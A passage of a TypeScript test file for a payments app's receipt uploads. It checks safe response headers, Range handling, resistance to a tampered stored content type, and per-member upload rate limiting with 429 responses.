  it.each(kinds)('%s is served as %s, sandboxed, never sniffed, never cached', async (_, upload, contentType, disposition) => {
    const payment = await expectAccepted(upload);
    for (const method of ['GET', 'HEAD'] as const) {
      const res = await fetch(`http://127.0.0.1:${port}${payment.receiptImage}`, { method });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe(contentType);
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('content-disposition')).toMatch(SERVED_NAME);
      expect(res.headers.get('content-disposition')!.startsWith(`${disposition};`)).toBe(true);
      expect(res.headers.get('content-security-policy')).toMatch(/(^|;\s*)sandbox(;|$)/);
      expect(res.headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
      expect(res.headers.get('cache-control')).toContain('no-store');
      const body = Buffer.from(await res.arrayBuffer());
      if (method === 'GET') expect(await showsSamePicture(body, upload.data)).toBe(true);
      else expect(body.length).toBe(0);
    }
  });

  it('answers a Range request with the whole file, and an impossible range without an error', async () => {
    const payment = await expectAccepted({ name: 'r.jpg', type: 'image/jpeg', data: sampleFiles.jpg });
    const url = `http://127.0.0.1:${port}${payment.receiptImage}`;
    const partial = await fetch(url, { headers: { range: 'bytes=0-3' } });
    expect(partial.status).toBe(200);
    expect(partial.headers.get('accept-ranges')).toBe('none');
    const whole = Buffer.from(await partial.arrayBuffer());
    expect(await showsSamePicture(whole, sampleFiles.jpg)).toBe(true);
    const impossible = await fetch(url, { headers: { range: 'bytes=999999-1000000, -5, x' } });
    expect(impossible.status).toBe(200);
    expect(Buffer.from(await impossible.arrayBuffer()).equals(whole)).toBe(true);
  });

  it('serves a row whose recorded type was tampered with as the type of its stored bytes', async () => {
    const payment = await expectAccepted({ name: 'r.png', type: 'image/png', data: sampleFiles.png });
    await ctx.db.query(`UPDATE receipts SET content_type = 'text/html' WHERE payment_id = $1`, [payment.id]);
    const res = await ctx.app.inject({ method: 'GET', url: payment.receiptImage });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('image/png');
  });
});

describe('an upload flood by one member', () => {
  let flood: TestContext;
  let floodAdmin: Awaited<ReturnType<typeof signInAdmin>>;
  let floodBank: string;
  const PER_USER = 3;

  beforeAll(async () => {
    flood = await createTestContext({ receiptUploadLimits: { perUser: PER_USER, windowMs: 10 * 60_000, stallMs: 30_000 } });
    floodAdmin = await signInAdmin(flood);
    floodBank = await newBankAccount(flood, floodAdmin.token);
  });
  afterAll(() => flood.close());

  it('gets 429 with the product message once the limit is used up, on every upload route, and stores nothing more', async () => {
    const member = await signUpMember(flood);
    const upload = async (file: Upload) =>
      send(flood, 'POST', '/api/payments/subscribe', member.token, { planId: await newPlan(flood, floodAdmin.token), amount: '5000', bankAccountId: floodBank }, file);

    // Refused and accepted uploads count alike: each one costs the server the reading.
    expect((await upload({ name: 'x.jpg', type: 'image/jpeg', data: files.shellScript })).statusCode).toBe(415);
    expect((await upload({ name: 'r.png', type: 'image/png', data: sampleFiles.png })).statusCode).toBe(201);
    expect((await upload({ name: 'r.png', type: 'image/png', data: sampleFiles.png })).statusCode).toBe(201);
    const storedBefore = fs.readdirSync(path.join(flood.config.dataDir, 'receipts')).length;

    const refused = await upload({ name: 'r.png', type: 'image/png', data: sampleFiles.png });
    expect(refused.statusCode).toBe(429);
    expect(refused.json()).toEqual({ success: false, code: expect.any(String), message: authMessages.tooManyRequests });
    expect(authMessages.tooManyRequests).toMatch(/^Too many attempts\./);

    const open = await client(flood).post('/api/plan-payments', { planId: await newPlan(flood, floodAdmin.token), amount: 5000 }, member.token);
    expect(open.status).toBe(201);
    const twoStep = await send(flood, 'POST', `/api/plan-payments/${open.body.payment.id}/upload-receipt`, member.token, {}, { name: 'r.png', type: 'image/png', data: sampleFiles.png });
    expect(twoStep.statusCode).toBe(429);
    const instalment = await send(flood, 'POST', '/api/payments', member.token, { groupId: open.body.payment.id, amount: '5000', month: '2', year: '2026', bankAccountId: floodBank }, { name: 'r.png', type: 'image/png', data: sampleFiles.png });
    expect(instalment.statusCode).toBe(429);
    expect(fs.readdirSync(path.join(flood.config.dataDir, 'receipts'))).toHaveLength(storedBefore);

    // Another member is not held back by the first one's flood.
    const other = await signUpMember(flood);
    const theirs = await send(flood, 'POST', '/api/payments/subscribe', other.token, { planId: await newPlan(flood, floodAdmin.token), amount: '5000', bankAccountId: floodBank }, { name: 'r.png', type: 'image/png', data: sampleFiles.png });
    expect(theirs.statusCode).toBe(201);
  });
});
